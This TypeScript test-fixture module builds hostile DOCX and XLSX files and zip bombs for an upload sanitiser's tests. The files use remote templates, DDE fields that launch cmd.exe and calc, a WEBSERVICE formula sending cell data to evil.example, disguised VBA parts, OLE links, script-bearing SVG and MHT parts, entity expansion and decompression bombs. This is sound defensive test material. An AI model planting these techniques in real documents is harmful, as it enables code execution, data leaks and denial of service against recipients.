/**
 * Hostile DOCX/XLSX files for the uploads tests, built in memory: one per active-content
 * technique, and decompression bombs. Nothing here is downloaded; each file is the smallest
 * package that Office would treat as carrying the technique.
 */
import { strToU8, type Zippable } from "fflate";
import { constants, crc32, deflateRawSync } from "node:zlib";
import { docx, WORKBOOK_RELS, WORKBOOK_XML, SHEET_XML, xlsx } from "./test-inputs.ts";
import { stored, writeZip, type ZipOutputEntry } from "../../lib/formats/zip.ts";

const W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
/** The first bytes of an OLE compound file (how VBA projects and OLE objects are stored). */
export const OLE_MAGIC = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
export const EVIL = "http://evil.example";

export function oleFile(): Uint8Array {
  const bytes = new Uint8Array(512);
  bytes.set(OLE_MAGIC);
  return bytes;
}

interface Rel {
  id: string;
  type: string;
  target: string;
  external?: boolean;
}

export function rels(list: Rel[]): Uint8Array {
  const items = list.map(
    (r) =>
      `<Relationship Id="${r.id}" Type="${r.type.includes("/") ? r.type : `${REL}/${r.type}`}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ""}/>`,
  );
  return strToU8(
    `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join("")}</Relationships>`,
  );
}

const DOC_RELS: Rel[] = [
  { id: "rId1", type: "comments", target: "comments.xml" },
  { id: "rId2", type: "image", target: "media/image1.jpeg" },
];

function body(inner: string, namespaces = ""): Uint8Array {
  return strToU8(
    `${HEAD}<w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"` +
      ` xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"${namespaces}><w:body><w:p><w:r><w:t>Pungutan liar di loket 3.</w:t></w:r></w:p>` +
      `${inner}</w:body></w:document>`,
  );
}

/** Content types of the default DOCX plus `extra` Default/Override elements. */
function docxTypes(
  extra: string,
  mainType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
): Uint8Array {
  return strToU8(
    `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/><Default Extension="jpeg" ContentType="image/jpeg"/>' +
      `<Override PartName="/word/document.xml" ContentType="${mainType}"/>` +
      '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>' +
      '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>' +
      `<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>${extra}</Types>`,
  );
}

/** A DOCX whose main document has `inner` after its first paragraph, `extraRels` and `parts`. */
function attackDocx(inner: string, extraRels: Rel[], parts: Zippable = {}, types = ""): Buffer {
  return docx({
    "word/document.xml": body(inner),
    "word/_rels/document.xml.rels": rels([...DOC_RELS, ...extraRels]),
    "word/media/image1.jpeg": new Uint8Array([0xff, 0xd8, 0xff, 0xd9]),
    "[Content_Types].xml": docxTypes(types),
    ...parts,
  });
}

const field = (instruction: string[], result: string) =>
  '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
  instruction.map((part) => `<w:r><w:instrText xml:space="preserve">${part}</w:instrText></w:r>`).join("") +
  `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const SETTINGS_TYPE =
  '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>';

/** One DOCX per technique; each keeps the text "Pungutan liar di loket 3." */
export const DOCX_ATTACKS: Record<string, () => Buffer> = {
  remoteTemplate: () =>
    attackDocx(
      "",
      [{ id: "rId3", type: "settings", target: "settings.xml" }],
      {
        "word/settings.xml": strToU8(
          `${HEAD}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`,
        ),
        "word/_rels/settings.xml.rels": rels([
          { id: "rId1", type: "attachedTemplate", target: `${EVIL}/template.dotm`, external: true },
        ]),
      },
      SETTINGS_TYPE,
    ),
  externalImages: () =>
    attackDocx(
      '<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:link="rId3"/></a:graphicData></a:graphic></w:drawing></w:r>' +
        '<w:r><w:pict><v:shape><v:imagedata r:id="rId4" o:title=""/></v:shape></w:pict></w:r>' +
        '<w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed="rId2"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">' +
        '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId5"/></a:ext></a:extLst></a:blip></a:graphicData></a:graphic></w:drawing></w:r></w:p>',
      [
        { id: "rId3", type: "image", target: `${EVIL}/track.png`, external: true },
        { id: "rId4", type: "image", target: "\\\\evil.example\\share\\leak.png", external: true },
        { id: "rId5", type: "image", target: "media/image2.svg" },
      ],
      {
        "word/media/image2.svg": strToU8(
          '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="http://evil.example/i.png"/></svg>',
        ),
      },
      '<Default Extension="svg" ContentType="image/svg+xml"/>',
    ),
  externalHyperlink: () =>
    attackDocx('<w:p><w:hyperlink r:id="rId3"><w:r><w:t>klik di sini</w:t></w:r></w:hyperlink></w:p>', [
      { id: "rId3", type: "hyperlink", target: `${EVIL}/phish`, external: true },
    ]),
  oleEmbedding: () =>
    attackDocx(
      '<w:p><w:r><w:object><v:shape id="ole1"><v:imagedata r:id="rId2"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="ole1" r:id="rId3"/></w:object></w:r></w:p>',
      [{ id: "rId3", type: "oleObject", target: "embeddings/oleObject1.bin" }],
      { "word/embeddings/oleObject1.bin": oleFile() },
      '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    ),
  oleLink: () =>
    attackDocx(
      '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rId3" UpdateMode="Always"/></w:object></w:r></w:p>',
      [{ id: "rId3", type: "oleObject", target: "file:///\\\\evil.example\\share\\data.xlsx", external: true }],
    ),
  renamedVbaProject: () =>
    attackDocx(
      "",
      [{ id: "rId3", type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject", target: "foo.xml" }],
      { "word/foo.xml": oleFile() },
      '<Override PartName="/word/foo.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
  vbaAsImage: () =>
    attackDocx(
      "",
      [{ id: "rId3", type: "image", target: "media/image2.png" }],
      { "word/media/image2.png": oleFile() },
      '<Default Extension="png" ContentType="image/png"/>',
    ),
  orphanPayload: () => attackDocx("", [], { "word/media/readme.txt": strToU8("MZ... not referenced by anything") }),
  activeX: () =>
    attackDocx(
      '<w:p><w:r><w:object><w:control r:id="rId3" w:name="CommandButton1"/></w:object></w:r></w:p>',
      [{ id: "rId3", type: "control", target: "ctl/control1.xml" }],
      {
        "word/ctl/control1.xml": strToU8(
          `${HEAD}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1" xmlns:r="${R}"/>`,
        ),
        "word/ctl/_rels/control1.xml.rels": rels([
          {
            id: "rId1",
            type: "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
            target: "control1.bin",
          },
        ]),
        "word/ctl/control1.bin": oleFile(),
      },
      '<Override PartName="/word/ctl/control1.xml" ContentType="application/vnd.ms-office.activeX+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>',
    ),
  altChunk: () =>
    attackDocx(
      '<w:altChunk r:id="rId3"/>',
      [{ id: "rId3", type: "aFChunk", target: "afchunk.mht" }],
      {
        "word/afchunk.mht": strToU8(
          'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><body><img src="http://evil.example/x.png"><script>alert(1)</script></body></html>',
        ),
      },
      '<Default Extension="mht" ContentType="message/rfc822"/>',
    ),
  subDocument: () =>
    attackDocx('<w:p><w:subDoc r:id="rId3"/></w:p>', [
      { id: "rId3", type: "subDocument", target: `${EVIL}/sub.docx`, external: true },
    ]),
  frames: () =>
    attackDocx(
      "",
      [{ id: "rId3", type: "webSettings", target: "webSettings.xml" }],
      {
        "word/webSettings.xml": strToU8(
          `${HEAD}<w:webSettings xmlns:w="${W}" xmlns:r="${R}"><w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
        ),
        "word/_rels/webSettings.xml.rels": rels([
          { id: "rId1", type: "frame", target: `${EVIL}/frame.docx`, external: true },
        ]),
      },
      '<Override PartName="/word/webSettings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"/>',
    ),
  nestedArchive: () =>
    attackDocx(
      "",
      [{ id: "rId3", type: "package", target: "embeddings/Lembar_Kerja.xlsx" }],
      { "word/embeddings/Lembar_Kerja.xlsx": xlsx() },
      '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
    ),
  /** INCLUDEPICTURE split over runs, DDEAUTO as a simple field, INCLUDETEXT under another prefix, a keyword hidden behind a nested field. */
  fieldCodes: () =>
    attackDocx(
      field(["INCLUDE", `PICTURE "${EVIL}/pixel.png" \\d`], "gambar") +
        `<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '><w:r><w:t>hasil dde</w:t></w:r></w:fldSimple></w:p>` +
        `<w:p xmlns:q="${W}"><q:r><q:fldChar q:fldCharType="begin"/></q:r><q:r><q:instrText>&#73;NCLUDETEXT "${EVIL}/a.docx"</q:instrText></q:r><q:r><q:fldChar q:fldCharType="end"/></q:r></w:p>` +
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
        field(["PAGE"], "2").replace("<w:p>", "").replace("</w:p>", "") +
        '<w:r><w:instrText> cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' +
        field([`HYPERLINK "${EVIL}/x"`], "tautan") +
        field(['HYPERLINK \\l "_Toc1"'], "Daftar isi") +
        field(["PAGE"], "1"),
      [{ id: "rId3", type: "header", target: "header1.xml" }],
      {
        "word/header1.xml": strToU8(
          `${HEAD}<w:hdr xmlns:w="${W}"><w:p><w:fldSimple w:instr="DDE excel &quot;C:\\\\x.xls&quot; R1C1"><w:r><w:t>kop</w:t></w:r></w:fldSimple></w:p></w:hdr>`,
        ),
      },
      '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
    ),
  mailMerge: () =>
    attackDocx(
      "",
      [{ id: "rId3", type: "settings", target: "settings.xml" }],
      {
        "word/settings.xml": strToU8(
          `${HEAD}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val="Provider=MSDASQL"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>`,
        ),
        "word/_rels/settings.xml.rels": rels([
          { id: "rId1", type: "mailMergeSource", target: `${EVIL}/data.odc`, external: true },
        ]),
      },
      SETTINGS_TYPE,
    ),
};

/** Refused outright: what cannot be removed and leave a working document. */
export const DOCX_REFUSED: Record<string, () => Buffer> = {
  macroEnabled: () =>
    docx({
      "[Content_Types].xml": docxTypes("", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    }),
  entityExpansion: () =>
    docx({
      "word/document.xml": strToU8(
        `${HEAD}<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="${W}"><w:body>&b;</w:body></w:document>`,
      ),
    }),
};

const SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const XLSX_TYPES_EXTRA = (extra: string) => (types: string) => types.replace("</Types>", `${extra}</Types>`);

function attackXlsx(options: {
  sheet?: string;
  workbook?: string;
  workbookRels?: Rel[];
  sheetRels?: Rel[];
  parts?: Zippable;
  types?: string;
}): Buffer {
  const sheetRels: Rel[] = [{ id: "rId1", type: "comments", target: "../comments1.xml" }, ...(options.sheetRels ?? [])];
  const typesXml = XLSX_TYPES_EXTRA(options.types ?? "")(
    `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
      '<Override PartName="/xl/comments1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"/>' +
      '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>',
  );
  return xlsx({
    "[Content_Types].xml": strToU8(typesXml),
    "xl/workbook.xml": strToU8(options.workbook ?? WORKBOOK_XML),
    "xl/_rels/workbook.xml.rels": options.workbookRels
      ? rels([{ id: "rId1", type: "worksheet", target: "worksheets/sheet1.xml" }, ...options.workbookRels])
      : strToU8(WORKBOOK_RELS),
    "xl/worksheets/sheet1.xml": strToU8(options.sheet ?? SHEET_XML),
    "xl/worksheets/_rels/sheet1.xml.rels": rels(sheetRels),
    ...options.parts,
  });
}

const sheet = (cells: string, after = "") =>
  `${HEAD}<worksheet xmlns="${SHEET}" xmlns:r="${R}"><sheetData><row r="1"><c r="A1"><v>150000</v></c>${cells}</row></sheetData>${after}</worksheet>`;

/** One XLSX per technique; each keeps the value 150000 in A1. */
export const XLSX_ATTACKS: Record<string, () => Buffer> = {
  externalLink: () =>
    attackXlsx({
      workbook: WORKBOOK_XML.replace(
        "</sheets>",
        '</sheets><externalReferences><externalReference r:id="rId2"/></externalReferences><definedNames><definedName name="Sumber">[1]Data!$A$1</definedName></definedNames>',
      ),
      workbookRels: [{ id: "rId2", type: "externalLink", target: "externalLinks/externalLink1.xml" }],
      sheet: sheet('<c r="B1"><f>[1]Data!A1</f><v>42</v></c>'),
      parts: {
        "xl/externalLinks/externalLink1.xml": strToU8(
          `${HEAD}<externalLink xmlns="${SHEET}" xmlns:r="${R}"><externalBook r:id="rId1"/></externalLink>`,
        ),
        "xl/externalLinks/_rels/externalLink1.xml.rels": rels([
          {
            id: "rId1",
            type: "externalLinkPath",
            target: "file:///\\\\evil.example\\share\\data.xlsx",
            external: true,
          },
        ]),
      },
      types:
        '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    }),
  ddeFormulas: () =>
    attackXlsx({
      workbookRels: [{ id: "rId2", type: "calcChain", target: "calcChain.xml" }],
      parts: {
        "xl/calcChain.xml": strToU8(
          `${HEAD}<calcChain xmlns="${SHEET}"><c r="B1" i="1"/><c r="C1"/><c r="D1"/><c r="E1"/><c r="F1"/></calcChain>`,
        ),
      },
      types:
        '<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/>',
      sheet: sheet(
        `<c r="B1"><f>cmd|' /C calc'!A0</f><v>0</v></c><c r="C1"><f t="shared" ref="C1:D1" si="0">MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f><v>0</v></c>` +
          '<c r="D1"><f t="shared" si="0"/><v>0</v></c><c r="E1"><f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)</f><v>ok</v></c><c r="F1"><f>SUM(A1,"a|b")</f><v>150000</v></c>',
      ),
    }),
  connections: () =>
    attackXlsx({
      workbookRels: [{ id: "rId2", type: "connections", target: "connections.xml" }],
      parts: {
        "xl/connections.xml": strToU8(
          `${HEAD}<connections xmlns="${SHEET}"><connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="${EVIL}/data"/></connection></connections>`,
        ),
      },
      types:
        '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>',
    }),
  queryTable: () =>
    attackXlsx({
      sheet: sheet("", '<tableParts count="1"><tablePart r:id="rId2"/></tableParts>'),
      sheetRels: [{ id: "rId2", type: "table", target: "../tables/table1.xml" }],
      parts: {
        "xl/tables/table1.xml": strToU8(
          `${HEAD}<table xmlns="${SHEET}" id="1" name="Q" displayName="Q" ref="A1:A1" tableType="queryTable"><tableColumns count="1"><tableColumn id="1" name="A"/></tableColumns></table>`,
        ),
        "xl/tables/_rels/table1.xml.rels": rels([
          { id: "rId1", type: "queryTable", target: "../queryTables/queryTable1.xml" },
        ]),
        "xl/queryTables/queryTable1.xml": strToU8(
          `${HEAD}<queryTable xmlns="${SHEET}" name="web" connectionId="1" refreshOnLoad="1"/>`,
        ),
      },
      types:
        '<Override PartName="/xl/tables/table1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml"/>' +
        '<Override PartName="/xl/queryTables/queryTable1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml"/>',
    }),
  hyperlinkAndOle: () =>
    attackXlsx({
      sheet: sheet(
        "",
        '<hyperlinks><hyperlink ref="A1" r:id="rId2"/></hyperlinks><oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId3"/></oleObjects>',
      ),
      sheetRels: [
        { id: "rId2", type: "hyperlink", target: `${EVIL}/phish`, external: true },
        { id: "rId3", type: "oleObject", target: "../embeddings/oleObject1.bin" },
      ],
      parts: { "xl/embeddings/oleObject1.bin": oleFile() },
      types: '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    }),
  vbaProject: () =>
    attackXlsx({
      workbookRels: [
        {
          id: "rId2",
          type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
          target: "styles2.xml",
        },
      ],
      parts: { "xl/styles2.xml": oleFile() },
      types: '<Override PartName="/xl/styles2.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
    }),
};

export const XLSX_REFUSED: Record<string, () => Buffer> = {
  macroSheet: () =>
    attackXlsx({
      workbook: WORKBOOK_XML.replace("</sheets>", '<sheet name="M" sheetId="2" r:id="rId2"/></sheets>'),
      workbookRels: [
        {
          id: "rId2",
          type: "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
          target: "macrosheets/sheet1.xml",
        },
      ],
      parts: {
        "xl/macrosheets/sheet1.xml": strToU8(
          `${HEAD}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`,
        ),
      },
      types: '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
    }),
  macroEnabled: () =>
    xlsx({
      "[Content_Types].xml": strToU8(
        `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
      ),
    }),
};

// ---- Bombs ---------------------------------------------------------------------------

const MIB = 1024 * 1024;

/**
 * Raw deflate data inflating to `mib` MiB of zeros, about 1 KB per MiB: one fully flushed
 * segment (no back-references across it) repeated, then an empty final block. Built without
 * ever holding the inflated bytes.
 */
export function zerosDeflated(mib: number): { data: Buffer; crc: number } {
  const zeros = Buffer.alloc(MIB);
  const segment = deflateRawSync(zeros, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const final = deflateRawSync(Buffer.alloc(0));
  let crc = 0;
  for (let i = 0; i < mib; i++) crc = crc32(zeros, crc);
  return { data: Buffer.concat([...Array.from({ length: mib }, () => segment), final]), crc };
}

const MINIMAL_DOCX: ZipOutputEntry[] = [
  stored(
    "[Content_Types].xml",
    strToU8(
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ),
  ),
  stored("_rels/.rels", rels([{ id: "rId1", type: "officeDocument", target: "word/document.xml" }])),
];

/** A DOCX whose document.xml inflates to `mib` MiB, declaring `declared` bytes (default: the truth). */
export function hugeEntryBomb(mib: number, declared = mib * MIB): Buffer {
  const { data, crc } = zerosDeflated(mib);
  return writeZip([
    ...MINIMAL_DOCX,
    { name: "word/document.xml", method: 8, crc32: crc, uncompressedSize: declared >>> 0, data },
  ]);
}

/** `count` entries of `mib` MiB each, every header honest. */
export function manyEntriesBomb(count: number, mib: number): Buffer {
  const { data, crc } = zerosDeflated(mib);
  return writeZip([
    ...MINIMAL_DOCX,
    stored("word/document.xml", strToU8(`<w:document xmlns:w="${W}"/>`)),
    ...Array.from({ length: count }, (_, i) => ({
      name: `word/media/zeros${i}.bin`,
      method: 8 as const,
      crc32: crc,
      uncompressedSize: mib * MIB,
      data,
    })),
  ]);
}

export function tooManyEntries(count: number): Buffer {
  return writeZip([
    ...MINIMAL_DOCX,
    stored("word/document.xml", strToU8(`<w:document xmlns:w="${W}"/>`)),
    ...Array.from({ length: count }, (_, i) => stored(`word/media/e${i}.txt`, new Uint8Array(0))),
  ]);
}

/** Two entries whose data overlap: the first one's compressed size is stretched over the second entry. */
export function overlappingEntries(): Buffer {
  const zip = writeZip([
    ...MINIMAL_DOCX,
    stored("word/document.xml", strToU8(`<w:document xmlns:w="${W}"/>`)),
    stored("word/media/b.txt", strToU8("the second entry")),
  ]);
  // Central directory: the end record says where it starts; the third record is document.xml.
  const centralStart = zip.readUInt32LE(zip.length - 22 + 16);
  let p = centralStart;
  for (let i = 0; i < 2; i++) p += 46 + zip.readUInt16LE(p + 28);
  const stretched = zip.readUInt32LE(p + 20) + 40;
  zip.writeUInt32LE(stretched, p + 20);
  return zip;
}
